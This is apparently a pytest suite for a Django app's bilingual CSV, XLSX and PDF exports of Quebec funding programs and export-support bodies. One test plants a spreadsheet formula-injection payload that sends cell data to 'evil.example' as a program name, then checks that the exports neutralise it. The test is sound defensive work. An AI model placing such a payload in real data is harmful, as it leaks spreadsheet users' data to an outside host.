from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zlib

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from aluhub.funding import exports, services
from aluhub.funding.models import Program
from tests.funding.factories import make_program

pytestmark = pytest.mark.django_db


def _pdf_text(data: bytes) -> str:
    """The page streams of a ReportLab PDF, inflated (enough to find words)."""
    chunks = []
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.S):
        raw = match.group(1)
        try:
            chunks.append(zlib.decompress(raw).decode("latin-1"))
        except zlib.error:
            try:
                import base64

                chunks.append(
                    zlib.decompress(base64.a85decode(raw.strip(), adobe=True)).decode("latin-1")
                )
            except Exception:  # noqa: BLE001 - not every stream is text
                chunks.append(raw.decode("latin-1"))
    return "".join(chunks)


def _programs() -> None:
    make_program(
        "a",
        name_fr="Aide à l'exportation",
        name_en="Export aid",
        max_amount_cad=50000,
        cost_share_pct=50,
    )
    make_program(
        "b", name_fr="Prêt inconnu", name_en="Unknown loan", max_amount_cad=None, aid_types=["loan"]
    )


def test_xlsx_export_opens_with_every_column(client: Client) -> None:
    _programs()
    response = client.get("/en/funding/export/xlsx/")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in r] for r in sheet.iter_rows()]
    formats = {r[0].value: [c.number_format for c in r] for r in sheet.iter_rows(min_row=2)}
    assert rows[0] == [
        "Program",
        "Organization",
        "Level",
        "Aid types",
        "Phases",
        "Maximum amount (CAD)",
        "Cost share",
        "Status",
        "Deadline",
        "URL",
        "Source",
        "Last verified",
    ]
    by_name = {r[0]: r for r in rows[1:]}
    # Numbers stay numbers, shown by a number format (not text like "$50,000").
    assert by_name["Export aid"][5] == 50000
    assert formats["Export aid"][5] == '"$"#,##0'
    assert by_name["Export aid"][6] == 50
    assert formats["Export aid"][6] == '0.## "%"'
    assert by_name["Unknown loan"][5] == "unknown"
    assert all(cell not in (None, "") for r in rows for cell in r)


def test_csv_export_follows_the_filters_in_french(client: Client) -> None:
    _programs()
    response = client.get("/fr/financement/exporter/csv/", {"aid": "loan"})
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    # The funder is an "Organisme" (the accounts' "Organisation" answered without a context).
    assert rows[0][:2] == ["Programme", "Organisme"]
    assert [r[0] for r in rows[1:]] == ["Prêt inconnu"]
    assert rows[1][5] == "inconnu"


def test_pdf_export_is_a_pdf_with_the_names(client: Client) -> None:
    _programs()
    response = client.get("/en/funding/export/pdf/")
    assert response.content.startswith(b"%PDF")
    text = _pdf_text(response.content)
    assert "Export aid" in text
    assert "Unknown loan" in text


@pytest.mark.one_database
@pytest.mark.parametrize(("lang", "expected"), [("fr", "1er mars 2026"), ("en", "March 1, 2026")])
def test_pdf_export_subtitle_writes_the_date_the_readers_way(lang: str, expected: str) -> None:
    programs = [make_program("a")]
    with translation.override(lang):
        text = _pdf_text(exports.to_pdf(programs, generated_on=dt.date(2026, 3, 1)))
    assert expected in text
    assert "2026-03-01" not in text
    # One program, in the singular (« 1 programmes » / "1 programs").
    assert ("(1 programme " if lang == "fr" else "(1 program ") in text


def test_unknown_export_format_is_404(client: Client) -> None:
    assert client.get("/en/funding/export/doc/").status_code == 404


def test_csv_export_in_english_uses_commas_and_plain_numbers(client: Client) -> None:
    _programs()
    response = client.get("/en/funding/export/csv/")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["Export aid"][5:7] == ["50000", "50"]


def test_a_program_name_written_as_a_formula_is_inert_in_every_export(client: Client) -> None:
    make_program("evil", name_fr='=HYPERLINK("http://evil.example/?x="&A1,"clic")', name_en="")
    csv_rows = list(
        csv.reader(
            io.StringIO(client.get("/fr/financement/exporter/csv/").content.decode("utf-8-sig")),
            delimiter=";",
        )
    )
    assert csv_rows[1][0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    sheet = load_workbook(io.BytesIO(client.get("/fr/financement/exporter/xlsx/").content)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert str(cell.value).startswith("'=")


def test_french_blanks_agree_with_their_columns_in_the_export_table(client: Client) -> None:
    """The table of the CSV, XLSX and PDF downloads (one row function)."""
    make_program(
        "vide", organization="", level="", aid_types=[], phases=[], max_amount_cad=None,
        cost_share_pct=None, url="", source_url="", last_verified=None,
    )  # fmt: skip
    response = client.get("/fr/financement/exporter/csv/")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert {k: v for k, v in cells.items() if v.startswith("inconnu")} == {
        "Organisme": "inconnu",
        "Palier": "inconnu",
        "Types d’aide": "inconnus",
        "Phases": "inconnues",
        "Montant maximal ($ CA)": "inconnu",
        "Part des coûts": "inconnue",
        "URL": "inconnue",
        "Source": "inconnue",
        "Dernière vérification": "inconnue",
    }
    with translation.override("en"):
        english = exports.row(Program.objects.get(slug="vide"))
    assert english.count("unknown") == 9


def test_csv_export_names_the_funder_in_the_readers_language(client: Client) -> None:
    make_program("a", organization="Exportation et développement Canada (EDC)")
    services.funding_organization_names_set(
        english_names={
            "Exportation et développement Canada (EDC)": "Export Development Canada (EDC)"
        }
    )

    def funder(url: str, delimiter: str) -> str:
        text = client.get(url).content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text), delimiter=delimiter))[1][1]

    assert funder("/en/funding/export/csv/", ",") == "Export Development Canada (EDC)"
    assert (
        funder("/fr/financement/exporter/csv/", ";") == "Exportation et développement Canada (EDC)"
    )


@pytest.mark.parametrize(
    ("lang", "expected"),
    [
        ("fr", "Appels de projets\u00a0: 2027-02-03 – 2027-03-31"),
        ("en", "Calls for proposals: 2027-02-03 – 2027-03-31"),
    ],
)
def test_export_deadline_column_separates_its_windows_the_languages_way(
    lang: str, expected: str
) -> None:
    """« Appels de projets : … » with a no-break space before the colon in French; it read
    « Appels de projets: … » in both languages."""
    program = make_program(
        "appel",
        deadline_type="call",
        intake_windows=[{"opens": "2027-02-03", "closes": "2027-03-31"}],
    )
    with translation.override(lang):
        assert expected in exports.row(program)


# --- the guide to export-support organizations ---------------------------------------------


def _support_bodies() -> None:
    from tests.funding.factories import make_support_organization

    make_support_organization(
        "orpex-saguenay", name="Export Saguenay", regions=["02"], url="https://exp.example/"
    )
    make_support_organization(
        "province-wide",
        name="Exportation Québec",
        name_en="Export Quebec",
        regions=[],
        services_fr="",
        services_en="",
        source_url="",
        last_verified=None,
    )
    make_support_organization("orpex-estrie", name="Export Estrie", regions=["05"])


def test_support_guide_csv_in_french_has_the_regions_bodies_and_unknowns(client: Client) -> None:
    _support_bodies()
    with translation.override("fr"):
        url = reverse("funding:support_export", args=["csv"])
    response = client.get(url, {"region": "02"})
    assert response.status_code == 200
    assert "organismes-soutien-exportation-02-" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Organisme", "Régions desservies", "Services"]
    by_name = {r[0]: r for r in rows[1:]}
    # The region's ORPEX and the province-wide body; not another region's.
    assert set(by_name) == {"Export Saguenay", "Exportation Québec"}
    assert by_name["Export Saguenay"][1] == "Saguenay–Lac-Saint-Jean"
    assert by_name["Export Saguenay"][2] == "Accompagnement des exportateurs."
    province = by_name["Exportation Québec"]
    assert province[1] == "Tout le Québec"
    assert province[2:] == ["inconnus", "inconnu", "inconnue", "inconnue"]


def test_support_guide_xlsx_and_pdf_in_english(client: Client) -> None:
    _support_bodies()
    with translation.override("en"):
        xlsx = client.get(reverse("funding:support_export", args=["xlsx"]))
        pdf = client.get(reverse("funding:support_export", args=["pdf"]), {"region": "05"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    rows = [[c.value for c in r] for r in sheet.iter_rows()]
    assert rows[0] == [
        "Organization",
        "Regions served",
        "Services",
        "Website",
        "Source",
        "Last verified",
    ]
    assert sorted(r[0] for r in rows[1:]) == ["Export Estrie", "Export Quebec", "Export Saguenay"]
    assert "export-support-organizations-05-" in pdf["Content-Disposition"]
    text = _pdf_text(pdf.content)
    assert "Guide to export-support organizations in Qu" in text
    assert "2 organizations serve Estrie" in text
    assert "Export Estrie" in text and "Export Saguenay" not in text


def test_support_guide_refuses_an_unknown_format_and_ignores_an_unknown_region(
    client: Client,
) -> None:
    _support_bodies()
    with translation.override("en"):
        assert client.get(reverse("funding:support_export", args=["doc"])).status_code == 404
        response = client.get(reverse("funding:support_export", args=["csv"]), {"region": "99"})
    assert response.status_code == 200
    assert len(response.content.decode("utf-8-sig").splitlines()) == 4  # header + all three


def test_support_page_links_the_guide_for_the_chosen_region(client: Client) -> None:
    _support_bodies()
    with translation.override("fr"):
        page = client.get(reverse("funding:support"), {"region": "02"}).content.decode()
        link = reverse("funding:support_export", args=["pdf"]) + "?region=02"
    assert f'href="{link}"' in page
    assert "Télécharger ce guide" in page
